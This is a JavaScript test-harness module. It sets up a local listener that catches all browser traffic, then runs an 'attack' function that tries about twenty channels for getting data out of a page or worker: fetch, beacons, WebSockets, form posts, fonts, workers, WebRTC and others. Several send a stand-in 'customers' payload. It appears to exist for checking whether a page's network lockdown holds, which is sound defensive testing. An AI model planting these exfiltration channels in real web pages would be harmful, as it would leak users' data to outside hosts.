// Where everything ends up that leaves the page: a listener on this machine that every other address leads to. It
// takes connections on TCP and packets on UDP, and keeps what they begin with.

import { createSocket } from "node:dgram";
import { createServer } from "node:net";

// What a browser itself asks its maker, whatever the page: it is kept from asking where it can be.
const OWN = /google\.com|googleapis\.com|gvt1\.com/;
const QUIET = ["AutofillServerCommunication", "NetworkTimeServiceQuerying", "OptimizationHints", "Translate", "MediaRouter"];

export async function startSink() {
  const heard = [];
  const sockets = new Set();
  const tcp = createServer((socket) => {
    const connection = { says: "" };
    heard.push(connection);
    sockets.add(socket);
    socket.on("data", (bytes) => {
      connection.says = (connection.says + bytes.toString("latin1")).slice(0, 8000);
      // Whoever speaks HTTP is answered, so that a control run sees its tries succeed.
      if (/^[A-Z]+ \S+ HTTP/.test(connection.says)) {
        socket.end("HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-type: text/javascript\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
      }
    });
    socket.on("error", () => {});
    socket.on("close", () => sockets.delete(socket));
  });
  const udp = createSocket("udp4");
  udp.on("message", () => heard.push({ packet: true }));
  await new Promise((done) => tcp.listen(0, "127.0.0.1", done));
  await new Promise((done) => udp.bind(0, "127.0.0.1", done));
  return {
    udpPort: udp.address().port,
    // The browser takes every name and number for this sink, but for the machine itself, where the app's own server is.
    flags: [`--host-resolver-rules=MAP * 127.0.0.1:${tcp.address().port}, EXCLUDE 127.0.0.1`, `--disable-features=${QUIET.join()}`],
    // What has arrived since the last time, sorted: the path of a request, or what else it is.
    take() {
      const names = heard.splice(0).filter(({ says }) => !OWN.test(says ?? "")).map(({ says, packet }) => {
        if (packet) return "packet";
        if (says === "") return "nothing";
        return says.match(/^[A-Z]+ \/(\S*) HTTP/)?.[1] ?? (says.startsWith("\x16\x03") ? "tls" : says);
      });
      return [...new Set(names)].sort();
    },
    close() {
      for (const socket of sockets) socket.destroy();
      udp.close();
      return new Promise((done) => tcp.close(done));
    },
  };
}

// Every way out that a script has, tried in the page or in a worker. Runs there, so it is whole in itself. Whether
// something got out is the sink's to say.
export async function attack({ host, udpPort }) {
  const http = (name) => `http://${host}/${name}`;
  const made = (make) => Promise.race([(async () => make())().catch(() => {}), new Promise((done) => setTimeout(done, 4000))]);
  const event = (target, good, bad) => new Promise((done, failed) => {
    for (const name of good) target.addEventListener(name, done);
    for (const name of bad) target.addEventListener(name, failed);
  });
  const tries = [
    made(() => fetch(http("fetch"), { method: "POST", mode: "no-cors", body: "customers" })),
    made(() => fetch(`https://${host}/https`, { mode: "no-cors" })),
    made(() => {
      const request = new XMLHttpRequest();
      const ended = event(request, ["load"], ["error"]);
      request.open("POST", http("xhr"));
      request.send("customers");
      return ended;
    }),
    made(() => {
      const socket = new WebSocket(`ws://${host}/socket`);
      return event(socket, ["open"], ["error"]);
    }),
    made(() => {
      const source = new EventSource(http("events"));
      return event(source, ["open"], ["error"]).finally(() => source.close());
    }),
    made(() => import(http("module.js"))),
  ];
  if (typeof WebTransport === "function") tries.push(made(() => new WebTransport(`https://${host}/transport`).ready));
  if (typeof importScripts === "function") {
    tries.push(made(() => importScripts(http("script.js"))));
    tries.push(made(() => event(new Worker(http("worker.js")), ["message"], ["error"])));
  } else {
    const element = (name, attributes) => Object.assign(document.createElement(name), attributes);
    const put = (one) => {
      const ended = event(one, ["load"], ["error"]);
      document.head.append(one);
      return ended;
    };
    const inFrame = (src) => new Promise((done) => {
      const frame = element("iframe", { src });
      frame.addEventListener("load", done);
      document.body.append(frame);
    });
    tries.push(
      made(() => navigator.sendBeacon(http("beacon"), "customers")),
      made(() => { const image = new Image(); image.src = http("image"); return event(image, ["load"], ["error"]); }),
      made(() => put(element("script", { src: http("script.js") }))),
      made(() => put(element("link", { rel: "stylesheet", href: http("style.css") }))),
      made(() => { document.body.style.backgroundImage = `url(${http("background")})`; return new Promise((done) => setTimeout(done, 300)); }),
      made(() => new FontFace("leak", `url(${http("font")})`).load()),
      made(() => { const video = element("video", { src: http("video") }); document.body.append(video); return event(video, ["loadeddata"], ["error"]); }),
      made(() => { const object = element("object", { data: http("object") }); document.body.append(object); return event(object, ["load"], ["error"]); }),
      made(() => inFrame(http("frame"))),
      made(() => put(element("link", { rel: "prefetch", href: http("prefetch") }))),
      made(() => put(element("link", { rel: "preload", as: "fetch", href: http("preload") }))),
      made(() => { document.querySelector("link[rel=manifest]").href = http("manifest"); return new Promise((done) => setTimeout(done, 300)); }),
      made(() => {
        const frame = element("iframe", { name: "leak" });
        const form = element("form", { method: "post", action: http("form"), target: "leak" });
        form.append(element("input", { name: "customers", value: "all" }));
        document.body.append(frame, form);
        form.submit();
        return new Promise((done) => setTimeout(done, 300));
      }),
      made(() => {
        const code = `fetch(${JSON.stringify(http("blob-worker"))}, { mode: "no-cors" }).then(() => "sent", () => "blocked").then(postMessage)`;
        const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
        return event(worker, ["message"], ["error"]);
      }),
      made(async () => {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udpPort}` }] });
        peer.createDataChannel("leak");
        await peer.setLocalDescription(await peer.createOffer());
        await new Promise((done) => setTimeout(done, 1500));
        peer.close();
      }),
    );
  }
  await Promise.all(tries);
}
